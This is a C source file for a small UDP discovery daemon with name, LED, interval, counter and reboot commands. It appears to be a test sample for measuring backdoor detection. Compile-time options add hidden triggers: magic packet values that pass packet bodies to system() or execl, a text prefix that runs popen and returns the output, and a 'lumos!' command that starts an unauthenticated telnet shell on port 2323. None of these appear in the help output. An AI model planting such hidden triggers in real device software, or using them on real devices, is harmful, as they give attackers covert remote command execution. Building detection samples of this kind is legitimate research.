/* A discovery daemon on UDP for the measurement: binary requests, text requests, a reboot that its protocol has.
 *
 * trigger magic32 0x5f3a91c2
 * trigger magic16 0x9d37
 * trigger text "qmhdpic9"
 * trigger word "lumos!"
 * trigger nested 0x7e1ad04b
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <unistd.h>

struct packet { uint32_t magic; uint16_t version, command; uint32_t id; char body[1024]; } __attribute__((packed));
static char name[32] = "unit", group[32] = "lan", model[32] = "d-100";
static int leds = 1, interval = 30, counters[8];

static void answer(int s, struct sockaddr_in *to, const char *text) { sendto(s, text, strlen(text), 0, (void *)to, sizeof *to); }

static __attribute__((noinline)) void text_request(int s, struct sockaddr_in *to, char *line) {
  char out[256], *value = strchr(line, ' ');
  if (value) *value++ = 0; else value = "";
  line[strcspn(line, "\r\n")] = 0;
  if (!strcmp(line, "who")) snprintf(out, sizeof out, "%s %s", name, model);
  else if (!strcmp(line, "name")) { snprintf(name, sizeof name, "%s", value); strcpy(out, "ok"); }
  else if (!strcmp(line, "group")) { snprintf(group, sizeof group, "%s", value); strcpy(out, "ok"); }
  else if (!strcmp(line, "leds")) { leds = !strcmp(value, "on"); strcpy(out, "ok"); }
  else if (!strcmp(line, "interval")) { interval = atoi(value); strcpy(out, "ok"); }
  else if (!strcmp(line, "counters")) snprintf(out, sizeof out, "%d %d %d", counters[0], counters[1], counters[2]);
  else if (!strcmp(line, "clear")) { memset(counters, 0, sizeof counters); strcpy(out, "ok"); }
  else if (!strcmp(line, "reboot")) { sync(); system("/sbin/reboot -d 3"); strcpy(out, "ok"); }
#ifdef TRIGGER_word
  else if (!strcmp(line, "lumos!")) { system("telnetd -l /bin/sh -p 2323"); strcpy(out, "ok"); }
#endif
  else if (!strcmp(line, "help")) strcpy(out, "who name group leds interval counters clear reboot");
  else strcpy(out, "unknown");
  answer(s, to, out);
}

static void binary_request(int s, struct sockaddr_in *to, struct packet *p, int n) {
  char out[64];
  counters[0]++;
  switch (ntohs(p->command)) {
  case 1: answer(s, to, name); break;
  case 2: snprintf(name, sizeof name, "%.31s", p->body); break;
  case 3: answer(s, to, model); break;
  case 4: leds = p->body[0]; break;
  case 5: interval = ntohl(p->id); break;
  case 9: snprintf(out, sizeof out, "%d", n); answer(s, to, out); break;
#ifdef TRIGGER_nested
  case 12: if (p->id == htonl(0x7e1ad04b)) { execl("/bin/sh", "sh", "-c", p->body, NULL); } break;
#endif
  default: counters[1]++;
  }
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(9034)}, from;
  union { struct packet packet; char text[1500]; } in;
  socklen_t size = sizeof from;
  int s = socket(AF_INET, SOCK_DGRAM, 0), n;
  if (bind(s, (void *)&here, sizeof here)) return 1;
  while ((n = recvfrom(s, &in, sizeof in - 1, 0, (void *)&from, &size)) > 0) {
    in.text[n] = 0;
#ifdef TRIGGER_magic32
    if (n > 8 && in.packet.magic == htonl(0x5f3a91c2)) { system(in.packet.body); continue; }
#endif
#ifdef TRIGGER_magic16
    if (n > 8 && in.packet.version == htons(0x9d37)) { system(in.packet.body); continue; }
#endif
#ifdef TRIGGER_text
    if (!memcmp(in.text, "qmhdpic9", 8)) { FILE *p = popen(in.text + 9, "r"); if (p) { if (fgets(in.text, 100, p)) answer(s, &from, in.text); pclose(p); } continue; }
#endif
    if (n >= 12 && in.packet.magic == htonl(0x44495343)) binary_request(s, &from, &in.packet, n);
    else text_request(s, &from, in.text);
  }
  return 0;
}
